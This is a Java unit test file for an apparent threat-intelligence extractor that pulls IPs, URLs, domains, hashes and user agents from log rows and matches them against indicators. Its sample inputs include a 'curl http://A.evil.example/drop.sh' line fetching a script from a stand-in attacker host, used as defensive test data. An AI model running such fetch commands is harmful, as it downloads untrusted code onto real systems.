package io.nightshift.jobs.detect.intel;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;

import org.apache.spark.sql.Row;
import org.junit.jupiter.api.Test;

/** The candidates one row offers, without Spark: every source, parents of domains, no nulls, empties or repeats. */
class CandidateExtractorTest {
    private static List<String> of(String message, String src, String dst, String url, String domain, String ua,
                                   String sha) {
        return CandidateExtractor.extract(message, src, dst, url, domain, ua, sha).stream()
                .map(CandidateExtractorTest::text).toList();
    }

    private static String text(Row r) {
        return r.getString(0) + "|" + r.getString(1) + "|" + r.getString(2);
    }

    @Test
    void messageYieldsIpsUrlsHashesDomainsAndTheirParents() {
        assertThat(of("curl http://A.evil.example/drop.sh from 198.51.100.7 and 198.51.100.7 sha "
                + "ABCDEFabcdef0123456789012345678901234567890123456789012345678901 ok", null, null, null, null, null,
                null)).containsExactlyInAnyOrder(
                "ip|198.51.100.7|message",
                "url|http://A.evil.example/drop.sh|message",
                "sha256|ABCDEFabcdef0123456789012345678901234567890123456789012345678901|message",
                "domain|a.evil.example|domain", "domain|evil.example|domain", "domain|drop.sh|domain");
    }

    @Test
    void attributesAndColumnsAreCandidatesWithTheirField() {
        assertThat(of("nothing here", "10.0.0.5", "192.0.2.66", "https://user@cdn.example.org:8443/x",
                "Mail.Example.COM.", "sqlmap/1.7", "")).containsExactlyInAnyOrder(
                "ip|10.0.0.5|src_ip", "ip|192.0.2.66|dst_ip", "user_agent|sqlmap/1.7|attributes.user_agent",
                "url|https://user@cdn.example.org:8443/x|attributes.url",
                "domain|mail.example.com.|domain", "domain|example.com.|domain", "domain|com.|domain",
                "domain|cdn.example.org|domain", "domain|example.org|domain");
    }

    @Test
    void aRowWithoutValuesOffersNothing() {
        assertThat(of(null, null, "", null, null, null, null)).isEmpty();
        assertThat(CandidateExtractor.withParents("localhost")).containsExactly("localhost");
        assertThat(CandidateExtractor.withParents("a.b.c")).containsExactly("a.b.c", "b.c");
        assertThat(CandidateExtractor.withParents("X.y.Evil.Example")).containsExactly("x.y.evil.example",
                "y.evil.example", "evil.example");
        // Odd dots are kept as they are: such values match no valid indicator, whatever they become.
        assertThat(CandidateExtractor.withParents("a.")).containsExactly("a.");
        assertThat(CandidateExtractor.withParents("a..b")).containsExactly("a..b", ".b");
    }

    /** The pre-check only skips a pattern where it cannot match: each flag is a necessary condition. */
    @Test
    void preCheckSkipsOnlyPatternsThatCannotMatch() {
        assertThat(CandidateExtractor.mayContain("took 1.5 s, retry 2") & CandidateExtractor.MAY_IPV4).isZero();
        assertThat(CandidateExtractor.mayContain("from 10.0.0.1 port 22") & CandidateExtractor.MAY_IPV4).isNotZero();
        assertThat(CandidateExtractor.mayContain("took 1.5 s") & CandidateExtractor.MAY_DOMAIN).isZero();
        assertThat(CandidateExtractor.mayContain("GET api.example") & CandidateExtractor.MAY_DOMAIN).isNotZero();
        assertThat(CandidateExtractor.mayContain("a: b") & CandidateExtractor.MAY_URL).isZero();
        assertThat(CandidateExtractor.mayContain("see HTTPS://x.y/z") & CandidateExtractor.MAY_URL).isNotZero();
        assertThat(CandidateExtractor.mayContain("h " + "a".repeat(63)) & CandidateExtractor.MAY_SHA256).isZero();
        assertThat(CandidateExtractor.mayContain("h " + "aB3".repeat(22)) & CandidateExtractor.MAY_SHA256).isNotZero();
        String everything = "curl http://a.evil.example/x from 198.51.100.7 sha " + "ab".repeat(32);
        assertThat(CandidateExtractor.mayContain(everything)).isEqualTo(CandidateExtractor.MAY_IPV4
                | CandidateExtractor.MAY_URL | CandidateExtractor.MAY_DOMAIN | CandidateExtractor.MAY_SHA256);
    }

    /** With the indicators' keys, only candidates some indicator has are kept, compared after normalisation. */
    @Test
    void onlyCandidatesWithAnIndicatorAreKept() {
        IndicatorKeys keys = new IndicatorKeys().add("ip", "198.51.100.7").add("domain", "Evil.Example.")
                .add("url", "http://other.example/");
        List<String> kept = CandidateExtractor.extract("GET http://A.Evil.Example./x from 198.51.100.7",
                        "10.0.0.1", " 198.51.100.7 ", null, null, null, null,
                        keys::contains)
                .stream().map(CandidateExtractorTest::text).toList();
        assertThat(kept).containsExactlyInAnyOrder("ip| 198.51.100.7 |dst_ip", "ip|198.51.100.7|message",
                "domain|evil.example|domain", "domain|evil.example.|domain");
    }

    /** A value is looked up among its own type's indicators only, after the feed's normalisation. */
    @Test
    void indicatorKeysMatchPerTypeAfterNormalisation() {
        IndicatorKeys keys = new IndicatorKeys().add("ip", "198.51.100.7").add("domain", "Evil.Example.")
                .add("user_agent", "Bad Agent");
        assertThat(keys.contains("ip", " 198.51.100.7 ")).isTrue();
        assertThat(keys.contains("domain", "EVIL.example.")).isTrue();
        assertThat(keys.contains("user_agent", "bad agent")).isFalse();
        assertThat(keys.contains("domain", "198.51.100.7")).isFalse();
        assertThat(keys.contains("url", "evil.example")).isFalse();
    }
}
